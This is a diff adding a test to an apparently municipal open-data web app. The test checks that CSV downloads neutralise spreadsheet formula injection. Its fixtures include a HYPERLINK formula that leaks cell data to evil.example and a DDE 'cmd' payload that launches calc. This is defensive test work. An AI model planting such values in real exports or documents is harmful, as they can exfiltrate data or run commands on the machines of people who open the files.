@@ -200,3 +200,58 @@ def test_the_links_answer_geojson_and_icalendar(client, cities):
     index = city_section(cities["372013"], EventIndexPage)
     calendar = Calendar.from_ical(client.get(index.url + "feed/").content)
     assert calendar.walk("VEVENT") is not None
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def unsafe_cells(data: bytes) -> list[str]:
+    """Cells a spreadsheet would run as a formula: starting with = + - @ tab or CR, and not a number."""
+    import re
+
+    number = re.compile(r"^[+-]?[\d,]*\.?\d+$")
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))  # a CR inside a quoted cell stays there
+    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not number.match(cell)]
+
+
+def test_every_download_neutralises_formula_like_cells_staff_typed(client, cities):
+    """Hostile text typed into a facility, an event, a dictionary item, an area and a nursery's page
+    reaches no /opendata/ file as a formula, for every download of every section."""
+    from facilities.models import FacilityPage
+    from opendata.downloads import REGISTRY
+    from services.events.models import EventPage
+    from services.garbage.models import CollectionArea, SortingItem
+    from services.nurseries.models import Nursery
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"詳しく")'
+    for page in [
+        FacilityPage.objects.filter(municipality__code="372013", kind="facilities").first(),
+        FacilityPage.objects.filter(municipality__code="372013", kind="childcare").first(),
+        Nursery.objects.filter(municipality__code="141003").first().facility,
+    ]:
+        page.title = hostile
+        page.address = "@SUM(1+1)"
+        page.save_revision().publish()
+    event = EventPage.objects.filter(municipality__code="372013").first()
+    event.title, event.venue_name = "+cmd|' /C calc'!A0", "-2+3"
+    event.save_revision().publish()
+    SortingItem.objects.filter(municipality__code="372013").update(notice="\t=1+1")
+    area = CollectionArea.objects.filter(municipality__code="372013").first()
+    area.name = "\r=1+1"
+    area.save()
+
+    files = [download for download in REGISTRY.values() if download.link is None]
+    assert {"public_facilities.csv", "events.csv", "garbage_5374.zip", "nursery_vacancies.csv"} <= {
+        download.name for download in files
+    }
+    for host in ({}, {"HTTP_HOST": YOKOHAMA_HOST}):  # 高松市 (the default site), 横浜市 (its nurseries)
+        for download in files:
+            response = client.get(f"/opendata/{download.name}", **host)
+            assert response.status_code == 200, download.name
+            data = b"".join(response.streaming_content) if response.streaming else response.content
+            if download.name.endswith(".zip"):
+                with zipfile.ZipFile(io.BytesIO(data)) as archive:
+                    for member in archive.namelist():
+                        assert unsafe_cells(archive.read(member)) == [], (download.name, member)
+            else:
+                assert unsafe_cells(data) == [], download.name
